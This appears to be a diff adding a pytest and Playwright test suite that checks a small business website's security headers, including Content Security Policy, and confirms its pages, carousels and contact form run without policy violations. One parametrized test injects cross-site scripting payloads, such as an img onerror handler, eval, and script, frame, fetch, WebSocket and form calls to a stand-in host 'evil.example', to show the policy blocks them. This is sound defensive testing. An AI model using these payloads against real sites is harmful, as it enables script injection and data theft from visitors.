@@ -1,0 +1,194 @@
+"""The security headers as Chromium holds them: nothing foreign runs, nothing of ours is missed."""
+
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.sync_api import BrowserContext, ConsoleMessage, Page, expect
+
+from builder_site.content.home import HERO_SLIDES
+from builder_site.content.navigation import NAVIGATION
+from builder_site.content.services import SERVICES
+from builder_site.pages import PAGES
+from tests.provider import Provider, refuse
+from tests.servers import PAGES as BUILT
+from tests.servers import Site
+from tests.site.carousels import carousel, expect_to_wrap_around
+from tests.site.form import FAILED, SENT, fill, send, status
+
+ROUTES = [page.text.route for page in PAGES]
+NAMES = (
+    "content-security-policy",
+    "x-content-type-options",
+    "referrer-policy",
+    "permissions-policy",
+    "cross-origin-opener-policy",
+)
+POLICY = "Content Security Policy"
+REPORT = """
+addEventListener("securitypolicyviolation", (event) => reportViolation(
+  `${event.effectiveDirective} ${event.blockedURI} ${event.sample} at ${event.sourceFile}`
+));
+"""
+
+
+@pytest.fixture
+def violations(context: BrowserContext) -> list[str]:
+    """What the policy refuses from now on, in every tab and frame of the visitor."""
+    found: list[str] = []
+
+    def report(text: str) -> None:
+        found.append(text)
+
+    def note(message: ConsoleMessage) -> None:
+        if POLICY in message.text or "Permissions-Policy" in message.text:
+            found.append(message.text)
+
+    context.expose_function("reportViolation", report)
+    context.add_init_script(REPORT)
+    context.on("console", note)
+    return found
+
+
+# The site misses nothing
+
+
+def test_home_moves_and_types(page: Page, violations: list[str]) -> None:
+    page.goto("/")
+    introduction = carousel(page, "Introduction")
+    typed = introduction.locator("[aria-hidden=true]").filter(has_text=HERO_SLIDES[0].line.lead)
+    expect(typed.first).to_be_visible()
+    expect_to_wrap_around(introduction, 2)
+    expect_to_wrap_around(carousel(page, "Customer testimonials"), 5)
+    page.locator(".react-parallax").first.scroll_into_view_if_needed()
+    page.mouse.wheel(0, 300)
+    page.wait_for_load_state("networkidle")
+    assert violations == []
+
+
+def test_services_shows_its_photos(page: Page, violations: list[str]) -> None:
+    page.goto("/services")
+    for service in SERVICES:
+        expect_to_wrap_around(carousel(page, service.gallery_name), len(service.photos))
+    page.wait_for_load_state("networkidle")
+    assert violations == []
+
+
+def test_contact_sends_and_shows_the_map(
+    page: Page, provider: Provider, violations: list[str]
+) -> None:
+    page.goto("/contact")
+    fill(page)
+    send(page)
+    expect(status(page)).to_have_text(SENT)
+    provider.behave(refuse(500))
+    fill(page)
+    send(page)
+    expect(status(page)).to_have_text(FAILED)
+    page.get_by_title("Map of Vilamoura, Faro").scroll_into_view_if_needed()
+    map_title = page.frame_locator("iframe").locator("title")
+    expect(map_title).to_have_js_property("textContent", "Map")
+    assert violations == []
+
+
+def test_answer_without_the_framework_keeps_its_menu(
+    page: Page, provider: Provider, violations: list[str]
+) -> None:
+    page.set_viewport_size({"width": 360, "height": 800})
+    page.route("**/assets/*.js", lambda route: route.abort())
+    page.goto("/contact")
+    fill(page)
+    send(page)
+    expect(status(page)).to_have_text(SENT)
+    page.get_by_role("button", name="Open menu").click()
+    expect(page.get_by_role("dialog", name="Menu")).to_be_visible()
+    assert len(provider.messages) == 1
+    assert violations == []
+
+
+def test_page_not_found_and_a_tour_by_links(page: Page, violations: list[str]) -> None:
+    page.goto("/nope")
+    page.get_by_role("main").get_by_role("link", name="home").click()
+    main = page.get_by_role("navigation", name="Main")
+    for link in (*NAVIGATION, *reversed(NAVIGATION)):
+        main.get_by_role("link", name=link.label).click()
+        page.wait_for_url(f"**{link.href}")
+        page.wait_for_load_state("networkidle")
+    assert violations == []
+
+
+# Nothing foreign runs
+
+INJECTED = {
+    "inline script": "append('script', {textContent: 'window.ran = true'})",
+    "script of another site": "append('script', {src: 'https://evil.example/x.js'})",
+    "event handler": "append('div', {innerHTML: '<img src=x onerror=\"window.ran = true\">'})",
+    "text as code": "setTimeout(() => eval('window.ran = true'))",
+    "style sheet": "append('style', {textContent: 'body { display: none }'})",
+    "frame": "append('iframe', {src: 'https://evil.example/'})",
+    "plugin": "append('object', {data: 'https://evil.example/x.swf'})",
+    "base address": "append('base', {href: 'https://evil.example/'})",
+    "picture of another site": "append('img', {src: 'https://evil.example/x.png'})",
+    "call to another site": "attempt(() => fetch('https://evil.example/'))",
+    "socket to another site": "attempt(() => new WebSocket('wss://evil.example/'))",
+    "form to another site": (
+        "append('form', {action: 'https://evil.example/', method: 'post'}).submit()"
+    ),
+}
+TRY = """(work) => {
+  const append = (name, more) => document.body.appendChild(
+    Object.assign(document.createElement(name), more));
+  const attempt = (work) => { try { work()?.catch?.(() => {}); } catch { /* refused */ } };
+  %s;
+}"""
+
+
+@pytest.mark.parametrize("injected", INJECTED)
+def test_what_an_attacker_puts_into_the_page_is_refused(page: Page, injected: str) -> None:
+    page.goto("/contact")
+    page.wait_for_load_state("networkidle")
+    with page.expect_console_message(lambda message: POLICY in message.text):
+        page.evaluate(TRY % INJECTED[injected])
+    assert page.evaluate("window.ran") is None
+
+
+# Every answer carries them
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        *(("GET", route) for route in ROUTES),
+        ("GET", "/nope"),
+        ("GET", "/services/"),
+        ("GET", "/frame.js"),
+        ("GET", "/favicon.ico"),
+        ("GET", "/robots.txt"),
+        ("GET", "/ping"),
+        ("GET", "/_event/"),
+        ("GET", "/contact/sent/guess"),
+        ("POST", "/contact"),
+        ("POST", "/"),
+        ("OPTIONS", "/contact"),
+    ],
+)
+def test_answer_has_the_policy_and_no_servers_name(site: Site, method: str, path: str) -> None:
+    preflight = {"Origin": "http://evil.example", "Access-Control-Request-Method": "POST"}
+    headers = preflight if method == "OPTIONS" else {}
+    answer = httpx.request(method, site.url + path, headers=headers)
+    home = httpx.get(site.url)
+    assert {name: answer.headers[name] for name in NAMES} == {
+        name: home.headers[name] for name in NAMES
+    }
+    assert answer.headers["server"] == ""
+    assert "access-control-allow-origin" not in answer.headers
+
+
+def test_host_of_static_files_gets_the_same_headers(site: Site) -> None:
+    sent = httpx.get(site.url).headers
+    _, *lines = Path(BUILT, "_headers").read_text().splitlines()
+    written = dict(line.strip().split(": ", 1) for line in lines)
+    assert {name.lower() for name in written} == set(NAMES)
+    assert {name: sent[name] for name in written} == written
+    # Cloudflare Pages takes no longer line.
+    assert max(map(len, lines)) <= 2_000
